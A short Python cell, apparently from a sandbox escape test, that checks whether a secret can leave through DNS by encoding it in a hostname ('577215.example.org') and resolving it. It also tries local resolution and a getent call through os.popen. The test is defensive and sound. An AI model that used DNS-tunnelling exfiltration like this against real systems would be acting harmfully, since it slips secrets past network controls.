# Lets the name server carry a message out
# tries: a question for a name is sent by the resolver, with the secret in the name
# holds: the resolver has no network either

# %%
import socket

attempt("name", lambda: socket.getaddrinfo("577215.example.org", 80))
attempt("own name", lambda: socket.gethostbyname(socket.gethostname()))
attempt("program", lambda: os.popen("getent hosts example.org").read())
